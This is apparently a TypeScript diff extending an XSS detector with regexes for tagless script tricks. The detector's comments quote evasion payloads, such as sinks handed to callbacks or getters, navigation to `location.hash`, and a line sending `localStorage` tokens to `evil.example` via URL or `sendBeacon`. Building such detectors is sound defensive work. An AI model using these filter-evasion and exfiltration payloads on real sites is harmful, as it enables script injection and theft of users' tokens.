@@ -42,11 +42,43 @@ const GLOBAL_SINK_CALL =
   /(?:^|[^\w$.])(?:window|self|top|parent|frames|globalThis|opener)\s*\.\s*(?:alert|confirm|prompt|eval|execScript)\s*(?:\((?!\s*$)|`)/;
 /**
  * A sink handed to what calls it (`[1].find(alert)`, `Reflect.apply(alert,null,[1])`,
- * `'alert(1)'.replace(/.+/,eval)`, `setTimeout(alert)`): the call is never written, so no filter sees
- * `alert(`. An application's code hands its own functions (`.then(render)`), not the dialogs or eval.
+ * `'alert(1)'.replace(/.+/,eval)`, `setTimeout(alert)`, `addEventListener('load',alert)`), or made the
+ * getter or conversion of an object (`{get:alert}`, `{valueOf:alert}`): the call is never written, so
+ * no filter sees `alert(`. An application's code hands its own functions (`.then(render)`), not the
+ * dialogs or eval.
  */
 const SINK_AS_CALLBACK =
-  /(?:\.\s*(?:map|flatMap|find|findIndex|findLast|forEach|filter|some|every|reduce|reduceRight|sort|then|catch|finally|replace|replaceAll|call|apply|bind)|(?:^|[^\w$.])(?:Reflect\s*\.\s*apply|setTimeout|setInterval|requestAnimationFrame|queueMicrotask))\s*\(\s*(?:[^,()\n]{0,60},\s*)?(?:(?:window|self|top|parent|globalThis)\s*\.\s*)?(?:alert|confirm|prompt|eval)\s*[,)]/;
+  /(?:\.\s*(?:map|flatMap|find|findIndex|findLast|forEach|filter|some|every|reduce|reduceRight|sort|then|catch|finally|replace|replaceAll|call|apply|bind|from|addEventListener)|(?:^|[^\w$.])(?:Reflect\s*\.\s*apply|setTimeout|setInterval|requestAnimationFrame|queueMicrotask|addEventListener))\s*\(\s*(?:[^,()\n]{0,60},\s*)?(?:(?:window|self|top|parent|globalThis)\s*\.\s*)?(?:alert|confirm|prompt|eval)\s*[,)]|[{,]\s*(?:get|set|valueOf|toString|handleEvent)\s*:\s*(?:alert|confirm|prompt|eval)\s*[,}]/;
+
+/**
+ * A global indexed by a variable that the value assigned a sink's name, then called
+ * (`x="alert";window[x](1)`, `n='ev'+'al';self[n]('...')` is BUILT_NAME's): the name is never next to
+ * the call. `handlers[name](e)` of ordinary code indexes its own table, not the global object.
+ */
+const VARIABLE_INDEXED_CALL = new RegExp(
+  `(?:^|[^\\w$.])${GLOBAL_OBJECT}\\s*\\[\\s*([A-Za-z_$][\\w$]{0,20})\\s*\\]\\s*(?:\\(|\`)`,
+);
+function callsAssignedSink(s: string): boolean {
+  const m = VARIABLE_INDEXED_CALL.exec(s);
+  if (m === null) return false;
+  const assigned = new RegExp(
+    `(?:^|[^\\w$.])${m[1].replace(/\$/g, '\\$')}\\s*=\\s*(['"\`])\\s*(?:alert|confirm|prompt|eval|execScript)\\s*\\1`,
+  );
+  return assigned.test(s);
+}
+/**
+ * Navigation to what the attacker controls in the page (`location=location.hash.slice(1)`,
+ * `location.href=document.referrer`): a `javascript:` URL sent in the fragment runs.
+ */
+const NAVIGATION_FROM_SOURCE =
+  /(?:^|[^\w$.])(?:(?:window|self|top|document)\s*\.\s*)?location(?:\s*\.\s*href)?\s*=(?!=)\s*(?:(?:window|self|top|document)\s*\.\s*)?(?:location\s*\.\s*(?:hash|search)|referrer|decodeURI(?:Component)?\s*\(\s*location|unescape\s*\(\s*location)/;
+/**
+ * Browser storage concatenated into a URL or handed to a beacon (`'//evil.example/?'+localStorage.token`,
+ * `sendBeacon('//x',sessionStorage.getItem('t'))`): tokens sent to another host, the payload of a
+ * script that needs no cookie.
+ */
+const STORAGE_EXFILTRATION =
+  /['"`]\s*\+\s*(?:window\s*\.\s*)?(?:localStorage|sessionStorage)\b|sendBeacon\s*\([^)]{0,200}\b(?:localStorage|sessionStorage|document\s*\.\s*cookie)\b/;
 
 /**
  * Script loaded from another host by a scheme-relative or data URL (`import('//evil.example/x.js')`,
@@ -77,6 +109,9 @@ export function isTaglessScript(s: string): boolean {
   if (s.includes('(') && (SINK_FED_BY_SOURCE.test(s) || SINK_AS_CALLBACK.test(s))) return true;
   if (s.includes('.') && GLOBAL_SINK_CALL.test(s)) return true;
   if (s.includes('(') && REMOTE_SCRIPT_LOAD.test(s)) return true;
+  if (bracket && callsAssignedSink(s)) return true;
+  if (s.includes('location') && NAVIGATION_FROM_SOURCE.test(s)) return true;
+  if (s.includes('Storage') && STORAGE_EXFILTRATION.test(s)) return true;
   if ((s.includes("'") || s.includes('"') || s.includes('.source')) && spellsSink(s)) return true;
   return (s.includes('=') && sinkAlias(s)) || (s.includes('/*') && COMMENTED_CALL.test(s));
 }
